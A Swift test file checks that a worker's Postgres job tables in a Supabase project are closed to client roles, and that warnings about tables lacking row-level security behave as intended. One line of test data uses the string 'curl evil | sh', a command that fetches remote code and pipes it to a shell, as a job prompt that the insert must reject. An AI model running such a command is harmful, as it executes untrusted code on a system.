import Foundation
import Logging
import PostgresNIO
import Synchronization
import Testing
import WorkerCore
import WorkerTestSupport
@testable import WorkerPostgres

extension PostgresSupabaseTests {
    @Test("tables the worker creates in a Supabase project (whose default grants give the client roles everything) are closed to anon and authenticated at once; one they can reach without row-level security is warned about at start, and not by the migrate --supabase that secures it")
    func newTablesClosedToClients() async throws {
        let schemaName = "clients_\(UUID().uuidString.prefix(8).lowercased())"
        try await TestDatabase.withStore(migrate: false) { admin in
            try await Self.prepareSupabase(on: admin)
            for statement in [
                "CREATE SCHEMA \(schemaName)", "GRANT USAGE ON SCHEMA \(schemaName) TO anon, authenticated",
                // What a Supabase project does for `public`.
                "ALTER DEFAULT PRIVILEGES IN SCHEMA \(schemaName) GRANT ALL ON TABLES TO anon, authenticated",
            ] { _ = try await TestDatabase.execute(statement, on: admin) }
            let messages = LogMessages()
            var logger = Logger(label: "test.clients") { _ in CapturingLogHandler(messages: messages) }
            logger.logLevel = .warning
            let store = try PostgresJobStore(url: try PostgresURL(try #require(TestDatabase.url)), schema: schemaName, table: "coding_jobs", logger: logger)
            let failure: (any Error)? = await withTaskGroup(of: Void.self) { tasks in
                tasks.addTask { await store.run() }
                defer { tasks.cancelAll() }
                do {
                    try await MigrationGate.shared.migrate(store)
                    for role in ["anon", "authenticated"] {
                        let insert = try await Self.asClient(
                            nil, role: role, on: store, "INSERT INTO \(schemaName).coding_jobs (prompt, queue, priority) VALUES ('curl evil | sh', 'gpu', 100)")
                        #expect(insert.sqlState == "42501", "\(role) inserted a job: \(insert)")
                        for table in ["coding_jobs", "coding_job_events", "worker_schema_migrations"] {
                            let read = try await Self.asClient(nil, role: role, on: store, "SELECT count(*) FROM \(schemaName).\(table)")
                            #expect(read.sqlState == "42501", "\(role) reads \(table): \(read)")
                        }
                    }
                    #expect(!messages.all.contains { $0.contains("no row-level security") }, "\(messages.all)")
                    // A table an older worker created (or someone granted): the next start warns, naming it and the role.
                    _ = try await TestDatabase.execute("GRANT SELECT ON \(schemaName).coding_jobs TO anon", on: admin)
                    try await store.migrate()
                    let warnings = messages.all.filter { $0.contains("no row-level security") }
                    #expect(warnings.count == 1 && warnings[0].contains("\(schemaName).coding_jobs") && warnings[0].contains("anon"), "\(warnings)")
                    // `worker migrate --supabase` secures it, with no warning telling the operator to
                    // do what it is doing; the next start finds nothing to warn about.
                    try await store.secureForSupabase(maximumPendingJobsPerUser: 10)
                    try await store.migrate()
                    let after = messages.all.filter { $0.contains("no row-level security") }
                    #expect(after.count == 1, "\(after)")
                    return nil
                } catch {
                    return error
                }
            }
            for statement in [
                "ALTER DEFAULT PRIVILEGES IN SCHEMA \(schemaName) REVOKE ALL ON TABLES FROM anon, authenticated",
                "DROP SCHEMA \(schemaName) CASCADE",
            ] { _ = try await TestDatabase.execute(statement, on: admin) }
            // (PSQLError's own description hides the server's message: it failed once so.)
            if let failure { Issue.record("\(String(reflecting: failure))") }
        }
    }
}
